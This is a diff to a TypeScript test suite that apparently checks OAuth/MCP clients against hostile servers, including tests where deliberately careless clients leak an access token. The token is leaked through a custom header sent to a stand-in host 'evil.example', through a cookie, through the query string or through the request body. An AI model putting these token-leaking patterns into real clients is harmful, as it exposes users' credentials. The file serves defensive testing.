@@ -1,5 +1,5 @@
 import { describe, expect, it } from "@effect/vitest"
-import { Effect } from "effect"
+import { Effect, Redacted } from "effect"
 import { Answer, ClientUnderAttack, HostileServersContract } from "../src/index.ts"
 import * as CarelessClient from "./attacks/carelessClient.ts"
 
@@ -37,9 +37,20 @@ describe("the table of attacks", () => {
   )
 })
 
+/** Neither careless client makes the mistake that these attacks need. */
+const undefeated = new Set([
+  "a challenge names a metadata address with the server as a user name",
+  "a challenge names a metadata address that is no URL",
+  "the metadata of the authorization server answers with 503 for ever",
+  "the metadata of the authorization server asks for another attempt at once, for ever",
+  "the metadata of the authorization server asks for another attempt in a year",
+  "the metadata of the authorization server asks for another attempt in the past",
+  "the metadata of the authorization server is JSON of a hundred thousand levels"
+])
+
 describe("each attack defeats a client that makes its mistake", () => {
   const clients = [CarelessClient.make("credulous"), CarelessClient.make("muddled")]
-  for (const { check, family, name } of attacks) {
+  for (const { check, family, name } of attacks.filter(({ name }) => !undefeated.has(name))) {
     it.effect(`${family}: ${name}`, () =>
       Effect.gen(function*() {
         for (const client of clients) {
@@ -81,6 +92,37 @@ describe("clients that do not work", () => {
   it.effect("a client that sleeps for nine minutes ends in time, since hours pass at once", () =>
     fromAttack("own", { name: "a call that sleeps", section: "RFC 9110 §15.4" }).check({
       connect: () => Effect.succeed(() => Effect.sleep("9 minutes"))
+    }))
+})
+
+describe("a client that sends its token in another way than the header `Authorization`", () => {
+  const attack = fromAttack("own", { name: "a further server", section: "RFC 6750 §2" })
+
+  /** Gets a token, and sends it to the hostile server by `carrying`. */
+  const client = (carrying: (token: string) => readonly [url: string, init: RequestInit]) =>
+    ClientUnderAttack.fromFetch(({ clientId, clientSecret, fetch }) => async () => {
+      const body = new URLSearchParams({
+        grant_type: "client_credentials",
+        client_id: clientId,
+        client_secret: Redacted.value(clientSecret)
+      })
+      const { access_token } = await (await fetch("https://auth.example.com/token", { method: "POST", body })).json()
+      return fetch(...carrying(access_token))
+    })
+
+  it.effect.each(
+    [
+      ["another header", (token) => ["https://evil.example/", { headers: { "x-token": token } }]],
+      ["a cookie", (token) => ["https://mcp.example.com/mcp", { headers: { cookie: `token=${token}` } }]],
+      ["the query", (token) => [`https://mcp.example.com/mcp?access_token=${token}`, {}]],
+      ["the body", (token) => ["https://mcp.example.com/mcp", { method: "POST", body: `access_token=${token}` }]]
+    ] satisfies ReadonlyArray<readonly [string, Parameters<typeof client>[0]]>
+  )("does not pass: %s", ([, carrying]) =>
+    Effect.gen(function*() {
+      const error = yield* Effect.flip(attack.check(client(carrying)))
+      expect(error.message).toMatch(
+        /: an access token is in .* a request to https:\/\/(?:evil\.example\/|mcp\.example\.com\/mcp)\.$/
+      )
     }))
 })
 
